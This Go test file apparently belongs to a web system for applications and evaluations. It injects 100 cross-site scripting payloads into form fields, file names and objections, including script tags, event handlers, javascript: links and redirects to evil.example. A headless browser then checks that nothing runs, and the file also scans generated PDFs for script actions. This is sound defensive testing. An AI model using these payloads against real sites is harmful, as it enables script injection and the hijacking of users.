package main

import (
	"mime"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"path"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf8"

	walker "minyi/cmd/internal/browser"
)

// payloads are 100 texts that would run, load or lead away where a page took them for
// markup: ten ways out of a context times ten things to do there.
func payloads() (out []string) {
	const run = `console.error('s22')`
	ways := []string{``, `">`, `'>`, `</textarea>`, `</title>`, `</script>`, `-->`, `</style>`, `]]>`, `"'></option></select>`}
	deeds := []string{
		`<script>` + run + `</script>`, `<img src=s22 onerror=` + run + `>`, `<svg onload=` + run + `>`, `<a href=javascript:` + run + ` autofocus onfocus=` + run + `>s22</a>`,
		`<iframe srcdoc="<script>parent.` + run + `</script>">`, `<style>@import '//evil.example/s22'</style>`, `<base href=//evil.example/s22>`,
		`<meta http-equiv=refresh content="0;url=//evil.example/s22">`, `<form action=//evil.example/s22><input autofocus onfocus=` + run + `>`,
		`{{s22}}${` + run + `};` + run + `;//" onmouseover=` + run + ` x="\u003cscript\u003e` + run,
	}
	for _, way := range ways {
		for _, deed := range deeds {
			out = append(out, way+deed)
		}
	}
	return out
}

// spiked puts the payloads in turn into every text that the public, residents, applicants
// and evaluators type in a round: behind their own words, as many as the text takes.
func spiked(used map[string]bool) swap {
	all, next := payloads(), 0
	return func(path string, form url.Values) bool {
		changed := false
		for _, name := range sorted(form) {
			own := form.Get(name)
			most := payloadRoom(path, name, own)
			for i, start := 0, next; i < len(all); i++ {
				one := all[(start+i)%len(all)]
				if utf8.RuneCountInString(own+one) <= most {
					own, changed, used[one], next = own+one, true, true, start+i+1
				}
			}
			if most > 0 {
				form.Set(name, own)
			}
		}
		return changed
	}
}

func sorted(form url.Values) (names []string) {
	for name := range form {
		names = append(names, name)
	}
	slices.Sort(names)
	return names
}

// payloadRoom is how many characters a text of these doors may grow to; 0 for other
// fields. What the rehearsal's people write themselves begins with the word rehearsal.
func payloadRoom(path, name, own string) int {
	const one, short, long = 40, 190, 450
	typed := strings.HasPrefix(own, "演练：")
	switch {
	case strings.HasPrefix(path, "/q/") && name == "o1", strings.HasPrefix(path, "/apply") && typed && strings.HasPrefix(name, "note-"):
		return long
	case name == "leader_name" && own != "":
		return one
	case typed && (strings.HasPrefix(path, "/apply") || strings.HasPrefix(path, "/evaluate")):
		return short
	}
	return 0
}

// TestBrowserS22NothingThatIsTypedRunsOnAnyPage plays a round in which whoever is not
// staff types payloads into every text, and opens every page that shows one: nothing
// runs, nothing is asked of another host, and the policy has nothing to report (S22).
func TestBrowserS22NothingThatIsTypedRunsOnAnyPage(t *testing.T) {
	if testing.Short() {
		t.Skip("plays a round for a browser")
	}
	t.Parallel()
	walker.Need(t)
	used := map[string]bool{}
	cast := embargoed()
	cast.Residents = 80
	w := openCast(t, t.TempDir(), moment(time.July, 20, 9), spiked(used), cast)
	named := map[string]bool{}
	w.names = spikedNames(named)
	w.until(moment(time.November, 5, 9))
	objected(t, w)
	if len(named) != len(payloads()) {
		t.Errorf("got %d payloads in names of files, want %d", len(named), len(payloads()))
	}
	savedNames(t, w)
	if len(used) != len(payloads()) {
		t.Errorf("got %d payloads typed, want %d", len(used), len(payloads()))
	}
	var cookies atomic.Pointer[[]*http.Cookie]
	cookies.Store(&[]*http.Cookie{})
	home, _ := url.Parse(testOrigin)
	inside, _ := url.Parse(w.base)
	front := httptest.NewServer(&httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(inside)
		r.Out.Host = home.Host
		r.Out.Header.Del("Cookie")
		for _, c := range *cookies.Load() {
			r.Out.AddCookie(c)
		}
	}})
	t.Cleanup(front.Close)
	p := walker.Open(t, front.URL, walker.Options{Screen: walker.Desk(), Script: true})
	shown := 0
	for who, pages := range rounds() {
		b := w.as(accountOf(who))
		own := b.jar.Cookies(home)
		cookies.Store(&own)
		for _, path := range payloadPages(w, b, pages) {
			if got := p.Go(path); got != http.StatusOK {
				t.Errorf("%s as %q: got %d", path, who, got)
			}
			if got := walker.Look[string](p, `[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^on/.test(a.name) || /^javascript:/.test(a.value))).map(e => e.outerHTML.slice(0, 200)).join()`); got != "" {
				t.Errorf("%s as %q: markup from a text: %s", path, who, got)
			}
			for _, trouble := range p.TakeTroubles() {
				t.Errorf("%s as %q: %s", path, who, trouble)
			}
			t.Logf("%s shows payloads", path)
			shown++
		}
	}
	if least := 12; shown < least {
		t.Errorf("%d pages show a payload, want at least %d", shown, least)
	}
}

// spikedNames puts the payloads in turn into files' names: one as the folder, which is
// cut off, and one as the name itself, which has no slash that would cut it.
func spikedNames(used map[string]bool) func(string) string {
	all, next := payloads(), 0
	return func(name string) string {
		folder, own := all[next%len(all)], all[(next+1)%len(all)]
		used[folder], used[own], next = true, true, next+2
		return folder + "/" + strings.ReplaceAll(own, "/", "") + path.Ext(name)
	}
}

// savedNames looks at the heads under which files with such names are saved, and at the
// paper that lists them: a name stays text, and the paper asks for nothing to be run.
func savedNames(t *testing.T, w *world) {
	t.Helper()
	b, seen := w.as("applicant-640104"), 0
	home := "/apply/2020/comprehensive"
	for _, link := range regexp.MustCompile(`href="(/apply/2020/comprehensive/exhibits/[0-9a-f-]{36})"`).FindAllStringSubmatch(b.get(home+"/exhibits").body, -1) {
		got := b.get(link[1])
		how, said, err := mime.ParseMediaType(got.header.Get("Content-Disposition"))
		if how == "" {
			continue // a page
		}
		if err != nil || how != "attachment" || !strings.Contains(said["filename"], "s22") || strings.ContainsAny(said["filename"], "<>\"\r\n") || len(said) != 1 {
			t.Errorf("%s is saved as %q: %v", link[1], got.header.Get("Content-Disposition"), err)
		}
		seen++
	}
	if seen == 0 {
		t.Error("no file with such a name was saved")
	}
	sealed := regexp.MustCompile(`/apply/2020/comprehensive/seal/[0-9a-f]{64}`).FindString(b.get(home+"/seal").body + b.get(home).body)
	paper := b.get(sealed + "/printed.pdf").body
	if sealed == "" || !strings.HasPrefix(paper, "%PDF-") {
		t.Errorf("no paper of %q lists the files: %.80q", sealed, paper)
	}
	for _, one := range []string{"/JavaScript", "/JS", "/Launch", "/OpenAction", "/EmbeddedFile", "javascript:"} {
		if strings.Contains(paper, one) {
			t.Errorf("the paper holds %s", one)
		}
	}
}

// objected files an objection that is made of payloads, which the office reads.
func objected(t *testing.T, w *world) {
	t.Helper()
	b := w.as("")
	action, form := formTo(t, b.get("/objections").body, "/objections")
	form.Set("text", strings.Join(payloads()[:20], "\n"))
	form.Set("name", payloads()[0])
	if form.Get("target") == "" {
		t.Fatal("there is nothing to object to")
	}
	if got := b.post(action, form); got.status >= http.StatusBadRequest {
		t.Fatalf("an objection: got %d\n%s", got.status, got.body)
	}
}

// accountOf is an account of a role, as worlds have them; a name stays one.
func accountOf(who string) string {
	switch who {
	case "office", "agency", "assessor", "inspector", "secadmin", "auditor":
		return who + "1"
	}
	return who
}

// payloadPages are those of a role's pages that show something of a payload, and for
// the office the objections one by one.
func payloadPages(w *world, b *browser, pages []seen) (out []string) {
	_, _, surveys := w.progress()
	for _, one := range pages {
		path := strings.Replace(one.path, "SURVEY", surveys["640100"], 1)
		body := b.get(path).body
		if strings.Contains(body, "s22") {
			out = append(out, path)
		}
		if path == "/office/objections" {
			for _, link := range regexp.MustCompile(`href="(/office/objections/[0-9a-f-]+)"`).FindAllStringSubmatch(body, -1) {
				if strings.Contains(b.get(link[1]).body, "s22") {
					out = append(out, link[1])
				}
			}
		}
	}
	return out
}
